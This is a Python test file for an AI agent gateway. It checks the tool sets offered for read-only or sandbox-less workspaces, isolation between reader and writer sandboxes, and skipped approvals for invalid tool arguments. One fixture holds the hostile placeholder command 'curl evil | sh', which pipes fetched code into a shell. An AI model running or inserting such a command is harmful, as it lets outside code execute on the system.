"""What an agent may do where it has no sandbox or only reads, and what its jobs may change."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any, cast

import pytest
from sqlalchemy import select

from delivery.database.clock import utc_now
from delivery.database.engine import Database
from delivery.events.event import new_id
from gateway.accounts import api_keys
from gateway.accounts.vault import open_vault
from gateway.config.sandbox_settings import SandboxCeilings
from gateway.environments.environment import Environment
from gateway.environments.resolver import EnvironmentResolver
from gateway.environments.workspaces import directory_workspaces
from gateway.records.errors import InvalidRecord
from gateway.records.records import Records
from gateway.store import sandboxes
from gateway.store.accounts import records as stored_records
from gateway.store.tables import accounts
from gateway.store.turns.jobs import Job
from gateway.tools.executor import ToolExecutor
from gateway.tools.tool import ToolContext
from sandbox import registry
from sandbox.errors import ProviderRefused
from sandbox.labels import key_of
from sandbox.lifecycle.reservations import Reservation, ReservationStatus
from sandbox.model import SandboxId, SandboxSpec
from sandbox.port import Feature

READ_ONLY = {"name": "files", "workspaceId": "files", "readOnly": True}
WRITABLE = {"name": "files", "workspaceId": "files"}
EXTERNAL = {"provider": "docker", "external": "tools"}
PROVIDERS = sorted(registry.installed())


def _box(provider: str) -> dict[str, Any]:
    """Return the config of a sandbox record, reserved where the provider can."""
    return {"provider": provider, "persistent": Feature.PERSISTENT in registry.plugin(provider).features}


def _reservation(environment: Environment) -> Reservation:
    now = utc_now()
    return Reservation(
        label=environment.spec.label,
        owner=environment.owner,
        provider=environment.provider,
        persistent=environment.spec.persistent,
        status=ReservationStatus.READY,
        sandbox=SandboxId("sbx_1"),
        used_at=now,
        changed_at=now,
        idle_timeout=60.0,
        max_lifetime=600.0,
    )


def _job(environment: Environment) -> Job:
    return Job(
        id=new_id("job"),
        account=environment.owner.account,
        conversation="cnv_1",
        turn="trn_1",
        agent=environment.owner.agent,
        asker="",
        command="true",
        provider=environment.provider,
        sandbox="sbx_1",
        sandbox_record=environment.sandbox_record,
        workspace=environment.workspace,
        token_digest=b"",
        token_sealed=b"",
        created_at=utc_now(),
    )


class SyncRecorder:
    """A pool, its backend and its only sandbox; records the specs of the syncs."""

    def __init__(self) -> None:
        self.backend = self
        self.synced: list[SandboxSpec] = []

    def sync_of(self, _spec: SandboxSpec) -> object:
        """Sync every sandbox."""
        return self

    async def connect(self, _sandbox: SandboxId, _spec: SandboxSpec) -> object:
        """Return the sandbox."""
        return self

    async def sync(self, _sandbox: object, spec: SandboxSpec) -> None:
        """Record a sync."""
        self.synced.append(spec)


class AccountFixture:
    """An account with a workspace, whose agents' environments are resolved."""

    def __init__(self, database: Database, path: Path) -> None:
        self.database = database
        ceilings = SandboxCeilings(shared_external=("docker:tools",))
        self.records = Records(open_vault(path), ceilings=ceilings)
        self.pools: dict[str, Any] = {}
        self.resolver = EnvironmentResolver(
            database,
            self.records,
            self.pools,
            workspaces=directory_workspaces(path / "w", baselines=path / "b", limit=1024),
            host_account=None,
            installation="here",
            missing_runtimes={},
        )
        self.id = ""

    async def create(self, kind: Any, name: str, config: dict[str, Any]) -> Any:
        """Create a record."""
        async with self.database.begin() as connection:
            return (await self.records.create(connection, self.id, kind, name=name, config=config)).record

    async def environment(self, **config: Any) -> Environment:
        """Return the environment of a new agent."""
        agent = await self.create("agent", new_id("agt"), config)
        return await self.resolver.resolve(agent, "cnv_1")

    async def revision(self) -> int:
        """Return the revision of the account, as the claim of a turn reads it."""
        async with self.database.read() as connection:
            found = await connection.execute(select(accounts.c.revision).where(accounts.c.id == self.id))
        return int(found.scalar_one())

    def executor(self, environment: Environment) -> ToolExecutor:
        """Return the tools of an environment, for a turn that does not exist."""
        nothing = cast("Any", None)
        context = ToolContext(
            turn=nothing,
            environment=environment,
            environment_resolver=self.resolver,
            jobs=nothing,
            files=nothing,
        )
        return ToolExecutor(context, begin=nothing, check=nothing, allowed=None)

    def list_tools(self, environment: Environment) -> set[str]:
        """Return the names of the tools that are offered in an environment."""
        return {tool.name for tool in self.executor(environment).list()}


@pytest.fixture
async def account(database: Database, tmp_path: Path) -> AccountFixture:
    """An account with a workspace and a sandbox record."""
    created = AccountFixture(database, tmp_path)
    async with database.begin() as connection:
        created.id = (await api_keys.create_account(connection, "one"))[0].id
    await created.create("workspace", "files", {})
    await created.create("sandbox", "box", {"provider": "host", "persistent": True})
    return created


@pytest.mark.parametrize(
    "config",
    [
        {"workspaces": [WRITABLE]},
        {"workspaces": [WRITABLE | {"sandbox": None}], "sandbox": "box"},
    ],
    ids=["no sandbox anywhere", "sandbox is null"],
)
async def test_a_workspace_without_a_sandbox_offers_read_and_glob(
    account: AccountFixture, config: dict[str, Any]
) -> None:
    """Nothing runs on the default sandbox instead, and nothing is written; a person may be asked."""
    assert account.list_tools(await account.environment(**config)) == {
        "read",
        "glob",
        "search",
        "view_image",
        "ask_person",
    }


async def test_a_read_only_workspace_offers_no_tool_that_writes(account: AccountFixture) -> None:
    """With write access the same agent has them."""
    reader = await account.environment(workspaces=[READ_ONLY], sandbox="box")
    writer = await account.environment(workspaces=[WRITABLE], sandbox="box")
    difference = account.list_tools(writer) - account.list_tools(reader)
    assert {"write", "edit", "mkdir", "rename", "copy", "remove"} <= difference
    assert {"read", "glob", "grep", "stat", "bash"} <= account.list_tools(reader)


async def test_an_environment_is_kept_until_a_record_changes(account: AccountFixture) -> None:
    """Turns of one revision have the same one, in a directory that exists; a change is seen at once."""
    agent = await account.create("agent", "one", {"workspaces": [WRITABLE], "sandbox": "box"})

    async def resolve(person: str = "") -> Environment:
        found = await account.resolver.resolve_all(
            agent, "cnv_1", person=person, revision=await account.revision()
        )
        return found["files"]

    first = await resolve()
    assert first.spec.workspace is not None
    first.spec.workspace.rmdir()
    assert await resolve() is first
    assert first.spec.workspace.is_dir()
    assert await resolve("key_1") is not first
    async with account.database.begin() as connection:
        box = await account.records.get(connection, account.id, "sandbox", "box")
        await account.records.update(connection, box, patch={"memoryLimit": 256})
    assert (await resolve()).spec.memory_mb == 256


@pytest.mark.parametrize("use", [READ_ONLY, WRITABLE], ids=["reader", "writer"])
@pytest.mark.parametrize("provider", PROVIDERS)
async def test_a_job_and_its_sandbox_keep_the_access_of_the_turn(
    account: AccountFixture, provider: str, use: dict[str, Any]
) -> None:
    """A job's files are synced with the readOnly of its agent's workspace, also after the turn has ended."""
    await account.create("sandbox", "there", _box(provider))
    environment = await account.environment(workspaces=[use], sandbox="there")
    row = _reservation(environment)
    async with account.database.begin() as connection:
        await sandboxes.add(connection, row)
    reserved = await account.resolver.for_reservation(row)
    assert reserved is not None
    assert reserved.spec.read_only == environment.spec.read_only == use.get("readOnly", False)
    async with account.database.read() as connection:
        stored = await sandboxes.get_by_sandbox(connection, row.provider, "sbx_1")
    assert stored is not None
    assert account.resolver.is_read_only(stored) == environment.spec.read_only
    account.pools[provider] = pool = SyncRecorder()
    await account.resolver.sync_job_files(_job(environment))
    assert [(one.label, one.read_only) for one in pool.synced] == [(row.label, environment.spec.read_only)]


@pytest.mark.parametrize("provider", PROVIDERS)
async def test_a_job_without_a_reservation_changes_no_workspace(
    account: AccountFixture, provider: str
) -> None:
    """The row of a sandbox says whether its agents may write; it is deleted before the sandbox is."""
    await account.create("sandbox", "there", _box(provider))
    account.pools[provider] = pool = SyncRecorder()
    environment = await account.environment(workspaces=[READ_ONLY], sandbox="there")
    await account.resolver.sync_job_files(_job(environment))
    assert not [one for one in pool.synced if not one.read_only]


@pytest.mark.parametrize("provider", PROVIDERS)
async def test_readers_and_writers_do_not_share_a_sandbox(account: AccountFixture, provider: str) -> None:
    """What a reader writes in its own sandbox is never synced back by a writer's turn."""
    await account.create("sandbox", "there", _box(provider))
    reader = await account.environment(workspaces=[READ_ONLY], sandbox="there")
    writer = await account.environment(workspaces=[WRITABLE], sandbox="there")
    assert reader.spec.label != writer.spec.label
    assert replace(reader.spec, label="", agent="", read_only=False) == replace(
        writer.spec, label="", agent=""
    )


@pytest.mark.parametrize("provider", PROVIDERS)
async def test_writers_keep_the_label_of_their_sandbox(account: AccountFixture, provider: str) -> None:
    """An upgrade finds the sandboxes that exist."""
    await account.create("sandbox", "there", _box(provider))
    writer = await account.environment(workspaces=[WRITABLE], sandbox="there")
    owner, kind = writer.owner, "reserved" if writer.spec.persistent else "passing"
    parts = (owner.account, owner.record or "", owner.workspace or "", owner.scope, owner.scope_id)
    assert writer.spec.label == "dovecote-here-" + key_of("sandbox", kind, provider, *parts)


async def test_a_reader_is_refused_in_an_external_sandbox(account: AccountFixture) -> None:
    """All agents there have the same files; a reader without a sandbox and a writer are fine."""
    await account.create("sandbox", "tools", EXTERNAL)
    with pytest.raises(InvalidRecord) as refused:
        await account.environment(workspaces=[READ_ONLY], sandbox="tools")
    assert [one.pointer for one in refused.value.problems] == ["/config/workspaces/0/readOnly"]
    assert (await account.environment(workspaces=[READ_ONLY | {"sandbox": None}], sandbox="tools")).files_only
    assert (await account.environment(workspaces=[WRITABLE], sandbox="tools")).spec.external == "tools"


async def test_a_readers_sandbox_does_not_become_external(account: AccountFixture) -> None:
    """The change of the record is refused; a record that was stored before the rule is not used."""
    sandbox = await account.create("sandbox", "there", {"provider": "docker", "persistent": True})
    agent = await account.create("agent", "reader", {"workspaces": [READ_ONLY], "sandbox": "there"})
    async with account.database.begin() as connection:
        with pytest.raises(InvalidRecord) as refused:
            await account.records.replace(connection, sandbox, config=EXTERNAL)
    (problem,) = refused.value.problems
    assert problem.pointer == "/config/external"
    assert "agent 'reader'" in problem.detail
    async with account.database.begin() as connection:
        await stored_records.update_record(connection, replace(sandbox, config=EXTERNAL))
    with pytest.raises(ProviderRefused, match="external sandbox"):
        await account.resolver.resolve(agent, "cnv_1")


async def test_no_approval_is_requested_for_arguments_that_the_schema_refuses(
    account: AccountFixture,
) -> None:
    """A call that cannot run needs no approval; a valid one does."""
    await account.create("sandbox", "careful", {"provider": "host", "permissionMode": "ask"})
    tools = account.executor(await account.environment(workspaces=[WRITABLE], sandbox="careful"))
    for name, args in (
        ("write", {"path": "x", "content": "curl evil | sh", "command": "ls -la"}),
        ("bash", {"command": ["ls"]}),
        ("edit", {"path": "x"}),
    ):
        assert not await tools.needs_approval(name, args, call="call_1")
